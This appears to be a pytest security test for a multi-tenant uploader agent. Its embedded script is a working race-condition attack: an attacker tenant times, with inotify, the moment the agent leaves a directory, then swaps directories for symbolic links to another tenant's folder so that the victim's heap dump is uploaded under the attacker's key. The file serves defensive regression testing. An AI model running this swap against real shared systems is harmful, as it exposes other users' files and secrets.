"""A tenant swaps a directory for a symbolic link at the moment at which the agent has looked and not yet opened."""

from __future__ import annotations

import time

import pytest

from tests.attacks.conftest import Hold
from tests.attacks.stage import Stage
from tests.attacks.tenants import heap_dump

pytestmark = [pytest.mark.slow, pytest.mark.attack]

# Version 0.1.0 walks twice, first to watch, then to scan.
# Directories that are walked before the victim's (any user sees the order) are swapped when the first of them is left.
SWAP_WHILE_SCANNED = """
notes, count = Inotify(), 0
while True:
    mine = f"t{count}"
    os.mkdir(f"{root}/{mine}")
    count += 1
    order = os.listdir(root)
    if order.index(mine) > order.index("shop") or count > 200:
        break
os.mkdir(f"{root}/hold")
for number in range(4000):
    os.mkdir(f"{root}/{mine}/a{number:04d}")
    os.symlink(f"{root}/shop", f"{root}/hold/a{number:04d}")
# In the order in which they are walked: version 0.1.0 takes the last one first.
walked = os.listdir(f"{root}/{mine}")
if last_first:
    walked.reverse()
for name in walked[:20]:
    for number in range(50):
        open(f"{root}/{mine}/{name}/f{number}", "w").close()
swaps = [(f"{root}/{mine}/{name}", f"{root}/hold/{name}") for name in reversed(walked)]
notes.watch(f"{root}/{mine}", CLOSE_NOWRITE)
print("ready", flush=True)
for _ in range(closes):
    notes.wait_for_itself(60)
# From the end: the agent comes there last, however busy the machine is.
for mine, link in swaps:
    exchange(mine, link)
time.sleep(60)
"""


def test_a_directory_that_is_swapped_while_it_is_scanned_shows_no_file_of_another(held: Hold) -> None:
    def attack(stage: Stage) -> str:
        stage.victim.run("os.mkdir(f'{root}/shop', 0o700)")
        content = heap_dump(1)
        stage.victim_writes(content, "shop/java_pid1.hprof")
        swapping = stage.attacker.start(
            SWAP_WHILE_SCANNED, closes=1 if stage.version.is_ours else 2, last_first=not stage.version.is_ours
        )
        assert stage.attacker.told(swapping) == "ready"
        stage.start_uploader()
        stage.written_at = time.monotonic()
        stored = stage.stored_after_s(10)
        mine = [key for key, body in stage.stored().items() if body == content and key != stage.own_key]
        if mine:
            return f"the victim's dump is stored as {mine}"
        return "" if stored is not None else "the victim's dump is not stored"

    held(attack, tries=10)  # a race, on a machine that may be busy
